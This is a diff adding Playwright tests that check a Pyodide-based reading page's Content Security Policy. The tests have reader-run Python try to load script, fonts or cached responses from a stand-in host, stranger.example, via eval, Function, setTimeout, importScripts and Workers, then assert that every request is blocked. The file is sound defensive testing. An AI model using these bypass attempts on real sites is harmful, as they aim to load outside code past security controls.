@@ -13,13 +13,13 @@ from pathlib import Path
 from typing import TYPE_CHECKING
 
 import pytest
-from pages import SLOW, Block
+from pages import SLOW, Block, pythons
 from test_exercises import KEY, cell
 from test_requests import search
 from visits import CHAPTER, until, visit
 
 if TYPE_CHECKING:
-    from collections.abc import Iterator
+    from collections.abc import Callable, Iterator
 
     from playwright.sync_api import Browser, Page
 
@@ -31,6 +31,15 @@ ROOT = Path(__file__).resolve().parent.parent.parent
 LISTEN = """addEventListener("securitypolicyviolation", (event) => {
   tellRefused(`${location.pathname}: ${event.effectiveDirective} ${event.blockedURI}`);
 })"""
+
+
+# The same in a worker, whose events do not reach the page.
+LISTEN_THERE = """() => {
+  self.refused = [];
+  addEventListener("securitypolicyviolation", (event) => {
+    refused.push(`${event.effectiveDirective} ${event.blockedURI}`);
+  });
+}"""
 
 
 @contextmanager
@@ -187,6 +196,98 @@ def test_strangers_are_refused(browser: Browser, address: str, stranger: str) ->
     assert sent == []
     assert set(unsent) <= {"csp"}
     context.close()
+
+
+@pytest.fixture(scope="module")
+def running(browser: Browser, address: str) -> Iterator[Page]:
+    """Give a chapter in which Python runs; the editor of its first block is open."""
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(f"{address}/{CHAPTER}")
+    Block(page, 1).try_code("print('ready')")
+    pythons(page)[0].evaluate(LISTEN_THERE)
+    page.wait_for_load_state("networkidle")
+    yield page
+    context.close()
+
+
+ATTEMPT = """\
+import js
+from pyodide.ffi import to_js
+
+def from_text(text):
+    return js.URL.createObjectURL(js.Blob.new(to_js([text])))
+
+try:
+    {}
+except Exception:  # Pyodide now and then loses the words of an error
+    print("refused")
+"""
+
+SCRIPT = "https://stranger.example/x.js"
+WAYS_OUT = {
+    "text that becomes a script": (
+        f"js.eval('import(`{SCRIPT}`)')",
+        "script-src eval",
+    ),
+    "text that becomes a function": (
+        f"js.Function.new('return import(`{SCRIPT}`)')()",
+        "script-src eval",
+    ),
+    "a timer with a text": (
+        f"js.setTimeout('import(`{SCRIPT}`)')",
+        "script-src eval",
+    ),
+    "a font": (
+        "js.FontFace.new('x', 'url(https://stranger.example/x.woff2)').load()",
+        "font-src https://stranger.example/x.woff2",
+    ),
+    "a cache": (
+        "js.caches.open('x').then(lambda kept: kept.add('https://stranger.example/'))",
+        "connect-src https://stranger.example/",
+    ),
+    "a script": (f"js.importScripts('{SCRIPT}')", "refused"),
+    "a worker": (f"js.Worker.new('{SCRIPT}')", "refused"),
+    "a worker with a script": (
+        f"js.Worker.new(from_text('importScripts(`{SCRIPT}`)'))",
+        "refused",
+    ),
+    "a worker without the policy": (
+        "js.Worker.new(js.location.origin + '/assets/live/worker.js')",
+        "refused",
+    ),
+}
+
+
+@pytest.mark.parametrize("way", WAYS_OUT)
+def test_what_a_reader_runs_reaches_nobody(running: Page, way: str) -> None:
+    """Nor what a link has brought: by whatever JavaScript has, no request leaves."""
+    attempt, refusal = WAYS_OUT[way]
+    code = ATTEMPT.format(attempt)
+    is_refused(running, lambda: Block(running, 1).try_code(code), refusal)
+
+
+def test_python_has_the_policy_of_its_page(running: Page) -> None:
+    """Should a text become a script after all, it gets nothing from elsewhere."""
+    [python] = pythons(running)
+    act = f"setTimeout(() => import('{SCRIPT}').catch(() => {{}}))"
+    is_refused(running, lambda: str(python.evaluate(act)), f"script-src-elem {SCRIPT}")
+
+
+def is_refused(page: Page, act: Callable[[], str], refusal: str) -> None:
+    """Hold that an act asks nobody, and that this is what is told of it."""
+    [python] = pythons(page)
+    unsent: list[str | None] = []
+    page.on("requestfailed", lambda request: unsent.append(request.failure))
+    sent: list[str] = []
+    page.on("response", lambda response: sent.append(response.url))
+    said = act()
+    page.wait_for_timeout(300)
+    assert sent == []
+    assert set(unsent) <= {"csp"}
+    assert len(page.workers) == 1
+    told = [said, *python.evaluate("refused.splice(0)")]
+    assert [each for each in told if refusal in each], told
 
 
 PROJECT = """
